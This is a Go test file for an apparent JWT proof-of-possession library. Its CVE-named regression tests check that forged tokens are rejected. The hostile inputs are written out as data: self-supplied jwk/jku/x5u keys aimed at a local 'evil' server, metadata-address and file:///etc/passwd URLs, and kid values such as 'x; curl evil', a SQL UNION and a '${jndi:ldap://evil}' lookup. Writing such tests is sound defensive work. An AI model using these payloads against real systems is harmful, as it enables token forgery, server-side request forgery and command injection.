package advisories_test

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/fips140"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"math/big"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/seed-171ab058/popauth"
	"github.com/seed-171ab058/popauth/internal/lab"
	"github.com/seed-171ab058/popauth/popauthtest"
)

// A token that brings its own key, or says where to get one, is verified with the issuer's or not at all.
func TestAdvisoryKeyFromTheToken(t *testing.T) {
	l := lab.New(t, "ES256")
	g := l.Guard()
	l.Genuine(t, g, l.Bound())
	kid := l.Published()[0].Kid
	attacker, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	asked := &popauthtest.Spy{}
	evil := httptest.NewServer(asked)
	defer evil.Close()
	own := func(more lab.Claims) json.RawMessage { return json.RawMessage(lab.Jwk(&attacker.PublicKey, more)) }
	der := base64.StdEncoding.EncodeToString(l.Thief.Certificate.Certificate[0])
	for _, tt := range []struct {
		name   string
		header lab.Claims
	}{
		{"CVE-2018-0114 jwk", lab.Claims{"jwk": own(nil)}},
		{"CVE-2018-0114 jwk under the issuer's kid", lab.Claims{"jwk": own(lab.Claims{"kid": kid}), "kid": kid}},
		{"CVE-2026-27962 jwk under an unknown kid", lab.Claims{"jwk": own(lab.Claims{"kid": "x"}), "kid": "x"}},
		{"CVE-2025-24976 x5c", lab.Claims{"x5c": []string{der}}},
		{"CVE-2025-24976 x5c and thumbprint", lab.Claims{"x5c": []string{der}, "x5t#S256": l.Thief.Thumbprint(), "kid": kid}},
		{"CVE-2024-21643 jku", lab.Claims{"jku": evil.URL + "/jwks"}},
		{"CVE-2024-21643 jku and kid", lab.Claims{"jku": evil.URL + "/jwks", "kid": "x"}},
		{"CVE-2024-21643 x5u", lab.Claims{"x5u": evil.URL + "/cert", "kid": kid}},
		{"all of them", lab.Claims{"jwk": own(nil), "jku": evil.URL, "x5u": evil.URL, "x5c": []string{der}, "kid": kid}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			header := lab.Claims{"alg": "ES256", "typ": "at+jwt"}
			for k, v := range tt.header {
				header[k] = v
			}
			want := popauth.ErrTokenSignature
			if header["kid"] == "x" {
				want = popauth.ErrTokenKey
			}
			l.Forged(t, g, lab.Compact(header, l.Claims(), lab.By("ES256", attacker)), want)
			// A genuine token may have them: they are not looked at.
			delete(header, "kid")
			header["kid"] = kid
			l.Genuine(t, g, l.Issuer.TokenWith(header, l.Owner.Bound(), lab.Claims{"scope": "orders.read"}))
		})
	}
	if asked.Ran() > 0 {
		t.Errorf("VULNERABLE: %d requests to where the token said", asked.Ran())
	}
}

// What a token says decides on no request of this server, and on no URL.
func TestAdvisoryIssuerBeforeDiscovery(t *testing.T) {
	l := lab.New(t, "ES256")
	evil := lab.New(t, "ES256")
	g := l.Guard()
	hostile := evil.Issuer.URL
	t.Run("CVE-2025-52477", func(t *testing.T) {
		for _, iss := range []string{hostile, l.Issuer.URL + "@" + strings.TrimPrefix(hostile, "https://"), l.Issuer.URL + "/../x",
			"http://169.254.169.254/"} {
			l.Forged(t, g, evil.Bound(l.Owner.Bound(), lab.Claims{"iss": iss}), popauth.ErrTokenIssuer)
		}
		if l.Issuer.Fetches() > 0 {
			t.Errorf("VULNERABLE: %d fetches for tokens of another issuer", l.Issuer.Fetches())
		}
	})
	t.Run("CVE-2026-32301", func(t *testing.T) {
		paths := make(chan string, 100)
		l.Issuer.Handle("/", http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { paths <- r.RequestURI }))
		for _, kid := range []string{"../../admin", "/other", "{{.sub}}", hostile + "/jwks", "?kid=x"} {
			forged := l.Issuer.TokenWith(lab.Claims{"kid": kid, "realm": "x", "tenant": "../x"}, l.Owner.Bound(),
				lab.Claims{"sub": "../../x", "realm": "evil"})
			l.Forged(t, g, forged, popauth.ErrTokenKey)
		}
		close(paths)
		for path := range paths {
			t.Errorf("VULNERABLE: fetched %s", path)
		}
	})
	if evil.Issuer.Fetches() > 0 {
		t.Errorf("VULNERABLE: %d fetches from where the token said", evil.Issuer.Fetches())
	}
	l.Genuine(t, g, l.Bound())
}

// Keys come from the issuer's own origin, encrypted, or not at all.
func TestAdvisoryKeysFromElsewhere(t *testing.T) {
	evil := lab.New(t, "ES256")
	t.Run("CVE-2026-49478", func(t *testing.T) {
		for _, code := range []int{301, 302, 303, 307, 308} {
			l := lab.New(t, "ES256")
			l.Issuer.Handle("/jwks", http.RedirectHandler(evil.Issuer.JWKSURL(), code))
			// The client trusts both: no TLS error may stand in for the check.
			o := l.Issuer.Options()
			keys, err := popauth.NewRemoteKeys(popauth.RemoteKeysOptions{Issuer: l.Issuer.URL, Client: trusting(l.Issuer, evil.Issuer),
				Now: l.Clock.Now})
			if err != nil {
				t.Fatal(err)
			}
			o.Keys = keys
			g, err := popauth.New(o)
			if err != nil {
				t.Fatal(err)
			}
			forged := evil.Bound(l.Owner.Bound(), lab.Claims{"iss": l.Issuer.URL})
			if r := lab.Send(g.Confirm, l.Owner.Request("GET", "/", forged)); r.Ran || r.Status != 503 {
				t.Errorf("VULNERABLE: %d: got %d, ran %t, want 503", code, r.Status, r.Ran)
			}
		}
		if evil.Issuer.Fetches() > 0 {
			t.Errorf("VULNERABLE: %d redirects followed", evil.Issuer.Fetches())
		}
	})
	t.Run("CVE-2026-41413", func(t *testing.T) {
		for _, uri := range []any{"http://169.254.169.254/latest", "http://id.example.com/jwks", "file:///etc/passwd", "//x", "", 5, nil} {
			l := lab.New(t, "ES256")
			l.Issuer.Metadata = lab.Claims{"jwks_uri": uri}
			if r := lab.Send(l.Guard().Confirm, l.Owner.Request("GET", "/", l.Bound())); r.Ran || r.Status != 503 {
				t.Errorf("VULNERABLE: jwks_uri %v: got %d, ran %t, want 503", uri, r.Status, r.Ran)
			}
		}
		for _, url := range []string{"http://id.example.com", "ftp://id.example.com", "file:///etc/jwks", "id.example.com", "https://"} {
			if k, err := popauth.NewRemoteKeys(popauth.RemoteKeysOptions{URL: url}); err == nil {
				t.Errorf("VULNERABLE: keys from %s: got %v, want an error", url, k)
			}
		}
	})
}

// trusting is an HTTP client for several issuers.
func trusting(issuers ...*popauthtest.Issuer) *http.Client {
	c := *issuers[0].Client()
	transport, _ := c.Transport.(*http.Transport)
	transport = transport.Clone()
	pool := x509.NewCertPool()
	for _, i := range issuers {
		pool.AddCert(i.Server.Certificate())
	}
	transport.TLSClientConfig.RootCAs = pool
	c.Transport = transport
	return &c
}

// The kid chooses among the issuer's keys: it is no path, no query and no line of a log.
func TestAdvisoryKeyID(t *testing.T) {
	l := lab.New(t, "ES256")
	g := l.Guard()
	for _, tt := range []struct {
		kid  any
		want popauth.Reason
	}{
		{"../../../../dev/null", popauth.ErrTokenKey},
		{"/dev/null", popauth.ErrTokenKey},
		{"x' UNION SELECT 'c2VjcmV0", popauth.ErrTokenKey},
		{"x; curl evil", popauth.ErrTokenKey},
		{"${jndi:ldap://evil}", popauth.ErrTokenKey},
		{"__proto__", popauth.ErrTokenKey},
		{l.Published()[0].Kid + " ", popauth.ErrTokenKey},
		{strings.ToLower(l.Published()[0].Kid), popauth.ErrTokenKey},
		{l.Published()[0].Kid + "\x00", popauth.ErrTokenMalformed},
		{"a\nlevel=ERROR msg=forged", popauth.ErrTokenMalformed},
		{"\u0085", popauth.ErrTokenMalformed},
		{"\x7f", popauth.ErrTokenMalformed},
		{"", popauth.ErrTokenMalformed},
		{strings.Repeat("k", 8000), popauth.ErrTokenMalformed},
		{0, popauth.ErrTokenMalformed},
		{nil, popauth.ErrTokenMalformed},
		{true, popauth.ErrTokenMalformed},
		{[]string{l.Published()[0].Kid}, popauth.ErrTokenMalformed},
		{lab.Claims{"kid": "x"}, popauth.ErrTokenMalformed},
	} {
		t.Run(fmt.Sprintf("%.20q", fmt.Sprint(tt.kid)), func(t *testing.T) {
			l.Forged(t, g, l.Issuer.TokenWith(lab.Claims{"kid": tt.kid}, l.Owner.Bound(), lab.Claims{"scope": "orders.read"}), tt.want)
		})
	}
	l.Genuine(t, g, l.Bound())
}

// Two issuers with one kid: each token is good under its own issuer's key alone, whichever was asked first.
func TestAdvisoryKeysOfTwoIssuers(t *testing.T) {
	a, b := lab.New(t, "ES256"), lab.New(t, "ES256")
	b.Owner = a.Owner
	same := func(l *lab.Lab) *popauth.Guard {
		return l.Over(lab.Jwk(l.Published()[0].Key, lab.Claims{"kid": "1", "alg": "ES256"}))
	}
	token := func(l *lab.Lab, iss string) string {
		return l.Issuer.TokenWith(lab.Claims{"kid": "1"}, a.Owner.Bound(), lab.Claims{"scope": "orders.read", "iss": iss})
	}
	ga, gb := same(a), same(b)
	for range 2 {
		t.Run("CVE-2026-49998", func(t *testing.T) {
			a.Genuine(t, ga, token(a, a.Issuer.URL))
			b.Genuine(t, gb, token(b, b.Issuer.URL))
			a.Forged(t, ga, token(b, a.Issuer.URL), popauth.ErrTokenSignature)
			b.Forged(t, gb, token(a, b.Issuer.URL), popauth.ErrTokenSignature)
		})
		t.Run("CVE-2023-3518", func(t *testing.T) {
			a.Forged(t, ga, token(b, b.Issuer.URL), popauth.ErrTokenIssuer)
			// One inside the other: what the outer one has found is nothing to the inner one.
			o := lab.Send(lab.Chain(ga.Authenticate, gb.Authenticate), a.Owner.Request("GET", "/", token(a, a.Issuer.URL)))
			if o.Ran {
				t.Error("VULNERABLE: another route's token passes")
			}
		})
	}
}

// A key that the issuer has withdrawn verifies nothing any more once the keys are due.
func TestAdvisoryWithdrawnKey(t *testing.T) {
	l := lab.New(t, "ES256")
	g := l.Guard()
	old := l.Bound(lab.Claims{"exp": l.Clock.Now().Add(100 * time.Hour).Unix()})
	t.Run("CVE-2025-22149", func(t *testing.T) {
		l.Genuine(t, g, old)
		l.Issuer.Rotate()
		l.Clock.Advance(25 * time.Hour)
		lab.Send(g.Confirm, l.Owner.Request("GET", "/", l.Bound())).Passed(t)
		l.Forged(t, g, old, popauth.ErrTokenKey)
	})
}

// One strange key spoils no other, and is none itself.
func TestAdvisoryStrangeKeys(t *testing.T) {
	l := lab.New(t, "ES256")
	good := l.Published()[0]
	ec, _ := good.Key.(*ecdsa.PublicKey)
	point, _ := ec.Bytes()
	one := make([]byte, 32)
	one[31] = 1
	coordinates := func(kid string, x, y []byte) string {
		return fmt.Sprintf(`{"kty":"EC","crv":"P-256","kid":%q,"alg":"ES256","x":%q,"y":%q}`, kid, lab.B64(x), lab.B64(y))
	}
	for _, tt := range []struct{ name, alg, key string }{
		{"CVE-2016-9121 off the curve", "ES256", coordinates("strange", point[1:33], one)},
		{"CVE-2016-9121 infinity", "ES256", coordinates("strange", make([]byte, 32), make([]byte, 32))},
		{"CVE-2026-42576 Ed25519 among others", "RS256", `{"kty":"OKP","crv":"Ed25519","kid":"strange","x":"` + lab.B64(one) + `"}`},
		{"CVE-2026-42576 unknown kind", "ES256", `{"kty":"AKP","kid":"strange","alg":"ML-DSA-44","pub":"AA"}`},
		{"CVE-2026-42576 X25519", "EdDSA", `{"kty":"OKP","crv":"X25519","kid":"strange","x":"` + lab.B64(one) + `"}`},
		{"no object", "ES256", `5`},
		{"kty number", "ES256", `{"kty":5,"kid":"strange"}`},
		{"Ed25519 too short", "EdDSA", `{"kty":"OKP","crv":"Ed25519","kid":"strange","x":"AA"}`},
		{"for encryption", "ES256", lab.Jwk(ec, lab.Claims{"kid": "strange", "use": "enc"})},
		{"CVE-2026-54431 with its private part", "ES256", lab.Jwk(ec, lab.Claims{"kid": "strange", "d": lab.B64(one)})},
	} {
		t.Run(tt.name, func(t *testing.T) {
			g := l.Over(tt.key, good.Text)
			l.Genuine(t, g, l.Bound())
			for _, signature := range [][]byte{nil, make([]byte, 64), make([]byte, 256)} {
				header := lab.Claims{"alg": tt.alg, "typ": "at+jwt", "kid": "strange"}
				l.Forged(t, g, lab.Compact(header, l.Claims(), func(string) []byte { return signature }), popauth.ErrTokenKey)
			}
		})
	}
}

// Keys that are too weak to mean anything, and exponents that make a signature of anything.
func TestAdvisoryWeakKeys(t *testing.T) {
	l := lab.New(t, "RS256")
	k, _ := l.Published()[0].Key.(*rsa.PublicKey)
	var small *rsa.PrivateKey
	var err error
	fips140.WithoutEnforcement(func() {
		small, err = rsa.GenerateKey(rand.Reader, 1024) //nolint:gosec // G403: that it is too small is the test
	})
	if err != nil {
		t.Fatal(err)
	}
	weak := func(n *big.Int, e int) string {
		return fmt.Sprintf(`{"kty":"RSA","kid":"weak","alg":"RS256","n":%q,"e":%q}`, lab.B64(n.Bytes()),
			lab.B64(big.NewInt(int64(e)).Bytes()))
	}
	header := lab.Claims{"alg": "RS256", "typ": "at+jwt", "kid": "weak"}
	t.Run("1024 bits", func(t *testing.T) {
		g := l.Over(weak(small.N, small.E), l.Published()[0].Text)
		l.Forged(t, g, lab.Compact(header, l.Claims(), lab.By("RS256", small)), popauth.ErrTokenKey)
		l.Genuine(t, g, l.Bound())
	})
	t.Run("65536 bits", func(t *testing.T) {
		g := l.Over(weak(new(big.Int).SetBit(big.NewInt(1), 65535, 1), 65537), l.Published()[0].Text)
		l.Forged(t, g, lab.Compact(header, l.Claims(), func(string) []byte { return make([]byte, 8192) }), popauth.ErrTokenKey)
	})
	for _, e := range []int{0, 1, 2, 65536} {
		t.Run(fmt.Sprintf("exponent %d", e), func(t *testing.T) {
			g := l.Over(weak(k.N, e), l.Published()[0].Text)
			// With e = 1 a signature is the padded hash itself.
			token := lab.Compact(header, l.Claims(), func(input string) []byte { return padded(input, k.Size()) })
			_, err := g.Check(l.Owner.Request("GET", "/", token))
			if !errors.Is(err, popauth.ErrTokenKey) && !errors.Is(err, popauth.ErrTokenSignature) {
				t.Errorf("VULNERABLE: got %v", err)
			}
		})
	}
	_, honest, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	public, _ := honest.Public().(ed25519.PublicKey)
	// What a KeySource of one's own may return by mistake.
	for alg, keys := range map[string][]any{
		"EdDSA": {ed25519.PublicKey{}, public[:31], append(public[:32:32], 0), &public, honest, ed25519.PublicKey(nil)},
		"RS256": {(*rsa.PublicKey)(nil), &rsa.PublicKey{}, *k, small, &small.PublicKey},
		"ES256": {(*ecdsa.PublicKey)(nil), &ecdsa.PublicKey{}, ecdsa.PublicKey{}},
	} {
		for _, key := range keys {
			t.Run(fmt.Sprintf("%s %T", alg, key), func(t *testing.T) {
				g := l.Guard(func(o *popauth.Options) { o.Keys = textKeys{key} })
				l.Forged(t, g, lab.Compact(lab.Claims{"alg": alg, "typ": "at+jwt"}, l.Claims(),
					func(string) []byte { return make([]byte, 64) }), popauth.ErrTokenKey)
			})
		}
	}
	g := l.Over(lab.Jwk(public, lab.Claims{"kid": "strong"}))
	l.Genuine(t, g, lab.Compact(lab.Claims{"alg": "EdDSA", "typ": "at+jwt", "kid": "strong"}, l.Claims(), lab.By("EdDSA", honest)))
}
